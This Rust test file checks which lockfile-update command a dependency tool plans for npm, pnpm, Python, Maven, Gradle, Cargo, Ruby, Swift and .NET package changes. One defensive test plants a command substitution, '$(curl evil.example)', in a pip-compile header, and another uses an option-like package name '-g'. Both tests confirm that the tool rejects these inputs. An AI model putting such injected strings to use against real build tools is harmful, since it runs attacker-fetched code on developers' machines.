//! Which command moves which lockfile.

use std::collections::BTreeSet;
use std::sync::Arc;

use downriver_domain::{Evidence, Scope};
use downriver_version::{PackageId, PackageVersionId};

use super::{RefreshPlan, plan_refresh};
use crate::files::Files;
use crate::reading::{FoundDependency, Reading};

/// `purl requirement locked lockfile [via]`, the requirement `-` where no file tells it.
fn found(line: &str) -> FoundDependency {
    let words: Vec<&str> = line.split('|').map(str::trim).collect();
    let evidence = |file: &str, line| Evidence {
        file: file.into(),
        line: Some(line),
    };
    let via: Arc<[PackageId]> = words
        .get(4)
        .iter()
        .map(|via| via.parse().unwrap())
        .collect();
    FoundDependency {
        package: words[0].parse().unwrap(),
        requirement: (words[1] != "-").then(|| words[1].to_owned()),
        locked: (words[2] != "-").then(|| words[2].into()),
        is_direct: via.is_empty(),
        via,
        via_version: None,
        scopes: Scope::Runtime.into(),
        evidence: evidence(
            if words[2] == "-" {
                words[3]
            } else {
                "manifest"
            },
            7,
        ),
        lock: (words[2] != "-").then(|| evidence(words[3], 9)),
    }
}

fn plan(lines: &[&str], changes: &[&str], files: &[(&str, &str)]) -> RefreshPlan {
    let mut source = Files::default();
    for (path, text) in files {
        source.insert(path, text.as_bytes()).unwrap();
    }
    let reading = Reading {
        dependencies: lines.iter().map(|line| found(line)).collect(),
        ..Reading::default()
    };
    let changes: BTreeSet<PackageVersionId> = changes
        .iter()
        .map(|change| change.parse().unwrap())
        .collect();
    plan_refresh(&source, &reading, &changes)
}

/// `folder$ command`, or why there is none.
fn told(plan: &RefreshPlan) -> Vec<String> {
    let steps = plan
        .steps
        .iter()
        .map(|step| format!("{}$ {}", step.folder, step.command_line()));
    let left = plan
        .left
        .iter()
        .map(|left| format!("left {}: {}", left.change, left.reason));
    let settled = plan
        .settled
        .iter()
        .map(|one| format!("settled {}: {}", one.change, one.reason));
    steps.chain(left).chain(settled).collect()
}

#[track_caller]
fn command(line: &str, change: &str, expected: &str) {
    assert_eq!(told(&plan(&[line], &[change], &[])), [expected]);
}

#[test]
fn every_tool_is_asked_for_the_package_alone() {
    for (line, change, expected) in [
        (
            "pkg:npm/%40acme/ui | ^1.0.0 | 1.0.0 | web/package-lock.json",
            "pkg:npm/%40acme/ui@1.2.0",
            "web$ npm update --package-lock-only --ignore-scripts --no-audit --no-fund @acme/ui",
        ),
        (
            "pkg:npm/ui | ^1.0.0 | 1.0.0 | pnpm-lock.yaml",
            "pkg:npm/ui@1.2.0",
            "$ pnpm update --recursive --depth Infinity --no-save --lockfile-only ui",
        ),
        (
            "pkg:npm/ui | ^1.0.0 | 1.0.0 | bun.lock",
            "pkg:npm/ui@1.2.0",
            "$ bun update ui",
        ),
        (
            "pkg:pypi/auth | >=1 | 1.0 | poetry.lock",
            "pkg:pypi/auth@1.2",
            "$ poetry update --lock --no-interaction auth",
        ),
        (
            "pkg:pypi/auth | - | 1.0 | uv.lock",
            "pkg:pypi/auth@1.2",
            "$ uv lock --upgrade-package auth",
        ),
        (
            "pkg:pypi/auth | >=1 | 1.0 | pdm.lock",
            "pkg:pypi/auth@1.2",
            "$ pdm update --no-sync auth",
        ),
        (
            "pkg:pypi/auth | >=1 | 1.0 | Pipfile.lock",
            "pkg:pypi/auth@1.2",
            "$ pipenv upgrade --lock-only auth",
        ),
        (
            "pkg:maven/com.acme/money | 2.6.0 | - | pay/pom.xml",
            "pkg:maven/com.acme/money@2.7.0",
            "pay$ mvn --batch-mode versions:use-dep-version -DgenerateBackupPoms=false -DforceVersion=true \
             -Dincludes=com.acme:money -DdepVersion=2.7.0",
        ),
        (
            "pkg:maven/com.acme/money | [2,3) | 2.6.0 | gradle.lockfile",
            "pkg:maven/com.acme/money@2.7.0",
            "$ gradle dependencies --update-locks com.acme:money",
        ),
        (
            "pkg:nuget/acme.log | 1.* | 1.0.0 | src/packages.lock.json",
            "pkg:nuget/acme.log@1.2.0",
            "src$ dotnet restore --force-evaluate",
        ),
        (
            "pkg:cargo/codec | 1 | 1.0.0 | Cargo.lock",
            "pkg:cargo/codec@1.2.0",
            "$ cargo update --package codec@1.0.0",
        ),
        (
            "pkg:gem/mailer | ~> 1.0 | 1.0.0 | Gemfile.lock",
            "pkg:gem/mailer@1.2.0",
            "$ bundle lock --conservative --update mailer",
        ),
        (
            "pkg:swift/acme/kit | from: \"1.0.0\" | 1.0.0 | Package.resolved",
            "pkg:swift/acme/kit@1.2.0",
            "$ swift package update acme.kit",
        ),
    ] {
        command(line, change, expected);
    }
}

#[test]
fn yarn_one_upgrades_what_pulls_a_package_in() {
    let line = "pkg:npm/deep | ^1.0.0 | 1.0.0 | yarn.lock | pkg:npm/outer";
    let change = "pkg:npm/deep@1.2.0";
    assert_eq!(
        told(&plan(
            &[line],
            &[change],
            &[("yarn.lock", "# yarn lockfile v1\n")]
        )),
        ["$ yarn upgrade --ignore-scripts --non-interactive outer"]
    );
    assert_eq!(
        told(&plan(
            &[line],
            &[change],
            &[("yarn.lock", "__metadata:\n  version: 8\n")]
        )),
        ["$ yarn up --recursive deep"]
    );
}

#[test]
fn changes_in_one_lockfile_are_one_command() {
    let lines = [
        "pkg:npm/a | ^1.0.0 | 1.0.0 | package-lock.json",
        "pkg:npm/b | ^1.0.0 | 1.0.0 | package-lock.json",
    ];
    let plan = plan(&lines, &["pkg:npm/a@1.1.0", "pkg:npm/b@1.1.0"], &[]);
    assert_eq!(
        told(&plan),
        ["$ npm update --package-lock-only --ignore-scripts --no-audit --no-fund a b"]
    );
    assert_eq!(plan.steps[0].changes.len(), 2);
}

#[test]
fn a_project_brings_its_own_tool() {
    let line = "pkg:maven/com.acme/money | [2,3) | 2.6.0 | app/gradle.lockfile";
    let change = "pkg:maven/com.acme/money@2.7.0";
    assert_eq!(
        told(&plan(&[line], &[change], &[("app/gradlew", "")])),
        ["app$ ./gradlew dependencies --update-locks com.acme:money"]
    );
}

#[test]
fn compiled_requirements_are_compiled_again_as_their_head_says() {
    let line = "pkg:pypi/auth | - | 1.0 | requirements/lint.txt";
    let change = "pkg:pypi/auth@1.2";
    let head = "#\n# This file is autogenerated by pip-compile with Python 3.14\n# by the following command:\n#\n\
                #    pip-compile --generate-hashes --output-file=requirements/lint.txt requirements/lint.in\n#\nauth==1.0\n";
    let files = [
        ("requirements/lint.txt", head),
        ("requirements/lint.in", "auth\n"),
    ];
    assert_eq!(
        told(&plan(&[line], &[change], &files)),
        [
            "$ pip-compile --generate-hashes --output-file=requirements/lint.txt requirements/lint.in --upgrade-package auth"
        ]
    );
    let elsewhere = head.replace("requirements/lint", "lint");
    let files = [
        ("requirements/lint.txt", elsewhere.as_str()),
        ("requirements/lint.in", "auth\n"),
    ];
    assert_eq!(
        plan_of_one(line, change, &files).steps[0].folder,
        "requirements"
    );
    let hostile = head.replace(
        "pip-compile --generate-hashes",
        "pip-compile $(curl evil.example)",
    );
    let files = [("requirements/lint.txt", hostile.as_str())];
    assert!(plan_of_one(line, change, &files).steps.is_empty());
}

fn plan_of_one(line: &str, change: &str, files: &[(&str, &str)]) -> RefreshPlan {
    plan(&[line], &[change], files)
}

#[test]
fn what_no_command_brings_in_says_why_and_where() {
    let line = "pkg:npm/a | ~1.0.0 | 1.0.3 | package-lock.json";
    let plan = plan_of_one(line, "pkg:npm/a@1.1.0", &[]);
    assert_eq!(
        told(&plan),
        ["left pkg:npm/a@1.1.0: `~1.0.0` does not admit 1.1.0: change the requirement first"]
    );
    let at = plan.left[0].at.as_ref().unwrap();
    assert_eq!((&*at.file, at.line), ("manifest", Some(7)));
    command(
        line,
        "pkg:npm/b@1.1.0",
        "left pkg:npm/b@1.1.0: nothing here uses pkg:npm/b",
    );
    command(
        line,
        "pkg:npm/a@1.0.3",
        "settled pkg:npm/a@1.0.3: the lockfile holds it already",
    );
    command(
        "pkg:npm/a | ^1.0.0 | - | package.json",
        "pkg:npm/a@1.1.0",
        "settled pkg:npm/a@1.1.0: nothing locks it: a plain build resolves it anew",
    );
}

#[test]
fn a_name_that_looks_like_an_option_reaches_no_tool() {
    let line = "pkg:npm/-g | ^1.0.0 | 1.0.0 | package-lock.json";
    let plan = plan_of_one(line, "pkg:npm/-g@1.1.0", &[]);
    assert!(plan.steps.is_empty(), "{plan:?}");
}
